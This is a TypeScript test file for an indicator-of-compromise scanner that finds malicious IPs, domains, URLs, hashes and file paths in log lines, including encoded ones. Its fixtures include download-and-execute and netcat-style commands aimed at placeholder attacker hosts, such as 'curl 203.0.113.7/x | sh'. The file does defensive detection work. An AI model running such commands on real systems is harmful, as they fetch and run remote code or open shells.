import { deflateRawSync, gzipSync } from "node:zlib";
import { expect, it } from "vitest";
import type { Indicator } from "./indicator.js";
import { readIndicatorList } from "./read-list.js";
import { sweepMatcher } from "./sweep-matcher.js";
import { sweepScan } from "./sweep-scan.js";
import { codedRuns } from "./variants.js";
import { wordFilter } from "./word-filter.js";

/** What of a list a line holds. */
function found(list: string, line: string): readonly string[] {
  const { indicators } = readIndicatorList(list);
  const hits = new Set<number>();
  sweepMatcher(indicators).match(line, (at) => hits.add(at));
  return [...hits].sort((a, b) => a - b).map((at) => indicators[at]!.value);
}

const base64 = (text: string, encoding: BufferEncoding = "utf8"): string =>
  Buffer.from(text, encoding).toString("base64");

it.each<[string, string]>([
  ["203.0.113.7", "Failed password for root from 203.0.113.7 port 22"],
  ["203.0.113.7", "IP 203.0.113.7.443 > 192.0.2.1.51122: Flags [S]"],
  ["203.0.113.7", '"src":"203.000.113.007"'],
  ["203.0.113.7", "peer ::ffff:203.0.113.7 closed"],
  ["203.0.113.0/24", "from 203.0.113.200:51122"],
  ["2001:db8::1", "from [2001:0db8:0:0:0:0:0:1]:443 closed"],
  ["2001:db8::/32", "from 2001:db8:7::9%eth0 closed"],
  ["evil.example", "GET http://cdn.evil.example/a HTTP/1.1"],
  ["evil.example", "query: a.b.EVIL.example. IN A"],
  ["evil.example", "(3)www(4)evil(7)example(0)"],
  ["evil.example", '{"m":"line one\\nevil.example again"}'],
  ["müller.example", "asked xn--mller-kva.example"],
  ["müller.example", "asked MÜLLER.example"],
  ["http://evil.example/gate.php", "GET https://evil.example/gate.php?id=7 HTTP/1.1"],
  ["http://evil.example/gate.php", '"url":"http:\\/\\/evil.example\\/gate.php"'],
  ["http://evil.example/gate.php", "/go?to=http%3A%2F%2Fevil.example%2Fgate.php"],
  ["http://evil.example/gate.php", "/go?to=http%253A%252F%252Fevil.example%252Fgate.php"],
  ["http://evil.example/", "CONNECT evil.example:443"],
  ["m@evil.example", "from=<M@Evil.Example>, size=7"],
  ["d41d8cd98f00b204e9800998ecf8427e", "Hashes=SHA1=AA,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=00"],
  ["d41d8cd98f00b204e9800998ecf8427e", "/tmp/d41d8cd98f00b204e9800998ecf8427e.bin"],
  ["CVE-2021-44228", "exploit_cve-2021-44228.py"],
  ["C:\\Windows\\Temp\\a.exe", '{"Image":"C:\\\\Windows\\\\Temp\\\\a.exe"}'],
  ["C:\\Windows\\Temp\\a.exe", "started c:/windows/temp/A.EXE -x"],
  ["%APPDATA%\\x\\a.dll", "loaded C:\\Users\\kw\\AppData\\Roaming\\x\\a.dll"],
  ["a.exe", "COMMAND=C:\\tools\\a.exe -v"],
  ["/tmp/.x", "tar czf /tmp/.x/p.tgz"],
  ["EXAMPLE\\svc_backup", "TargetUserName=svc_backup TargetDomainName=EXAMPLE"],
  ["sysupd", "new user: name=sysupd, UID=1004"],
  ["evil.example", `powershell -enc ${base64("iwr http://evil.example/a", "utf16le")}`],
  ["203.0.113.7", `sh -c ${base64(`echo ${base64("curl 203.0.113.7/x | sh")} | base64 -d`)}`],
  ["evil.example", `echo ${gzipSync("wget http://evil.example/a").toString("base64")} | base64 -d | gunzip`],
  ["evil.example", `DeflateStream FromBase64String('${deflateRawSync("iwr evil.example/b").toString("base64")}')`],
  ["203.0.113.7", `proctitle=${Buffer.from("nc\u0000203.0.113.7\u00004444").toString("hex")}`],
])("finds %s in %s", (list, line) => {
  expect(found(list, line)).toHaveLength(1);
});

it.each<[string, string]>([
  ["203.0.113.7", "from 203.0.113.70 and 1203.0.113.7 and 9.203.0.113.7"],
  ["203.0.113.0/24", "from 203.0.114.1"],
  ["2001:db8::1", "at 03:11:02 from 2001:db8::11"],
  ["evil.example", "GET http://notevil.example/ and evil.example.org and my-evil.example"],
  [
    "http://evil.example/gate.php",
    "GET http://evil.example/gate.php5 and /gate.php and http://evil.example/gate.php/more",
  ],
  ["d41d8cd98f00b204e9800998ecf8427e", "d41d8cd98f00b204e9800998ecf8427e00"],
  ["CVE-2021-44228", "CVE-2021-442281"],
  ["a.exe", "xa.exe a.exe2 a.exe.config"],
  ["/tmp/x", "/var/tmp/x and /tmp/xy"],
  ["EXAMPLE\\svc_backup", "TargetUserName=svc_backup TargetDomainName=OTHER"],
  ["sysupd", "sysupdate and my-sysupd"],
])("does not find %s in %s", (list, line) => {
  expect(found(list, line)).toEqual([]);
});

/** Numbers that look random and are the same every time. */
function* numbers(seed: number): Generator<number> {
  for (let state = seed; ;) yield (state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0) >>> 8;
}

it("finds exactly the words that one comparison after the other finds", () => {
  const random = numbers(7);
  const next = (below: number): number => random.next().value! % below;
  const label = (): string => Array.from({ length: 1 + next(3) }, () => "abc-_1ü"[next(7)]).join("");
  for (let round = 0; round < 300; round++) {
    const known = new Set(Array.from({ length: 5 }, () => `${label()}.${label()}`.replace(/^[.-]+|[.-]+$/g, "")));
    const text = Array.from({ length: 12 }, () => label() + [".", " ", "/", "..", "-", ". "][next(6)]).join("");
    const seen = new Set<string>();
    wordFilter([...known]).scan(text, (start, end, wordStart) => {
      const word = text.slice(start, end);
      if (known.has(word) && (start === wordStart || text[start - 1] === ".")) seen.add(word);
    });
    const words = text.split(/[ /]+/).map((word) => word.replace(/^[.-]+|[.-]+$/g, ""));
    const expected = [...known].filter(
      (name) => name !== "" && words.some((word) => word === name || word.endsWith(`.${name}`)),
    );
    expect([...seen].sort(), text).toEqual(expected.sort());
  }
});

it("finds the same stretches of coded text as an expression would", () => {
  const random = numbers(11);
  for (let round = 0; round < 500; round++) {
    const text = Array.from({ length: 120 }, () => "aB3+/_-= "[Math.floor((random.next().value! % 90) / 10)]).join("");
    const expected = [...text.matchAll(/[A-Za-z0-9+/_-]{16,}/g)].map((match) => [
      match.index,
      match.index + match[0].length,
    ]);
    expect(codedRuns(text), text).toEqual(expected);
  }
});

it("counts each line once for an indicator and keeps its first lines", () => {
  const indicators: readonly Indicator[] = [{ kind: "domain", value: "evil.example", entry: 1 }];
  const scan = sweepScan({ kind: "sweep", indicators, samples: 2 });
  const texts = ["evil.example a.evil.example", "nothing", `x ${base64("see b.evil.example now")}`, "EVIL.example"];
  texts.forEach((text, i) => scan.line({ line: i + 1, text } as never));
  expect(scan.take()).toEqual([
    {
      indicator: 0,
      lines: 3,
      decodedLines: 1,
      first: [1, 3],
      last: 4,
      values: [
        ["a.evil.example", 1],
        ["b.evil.example", 1],
        ["evil.example", 1],
      ],
    },
  ]);
  expect(scan.take()).toEqual([]);
});
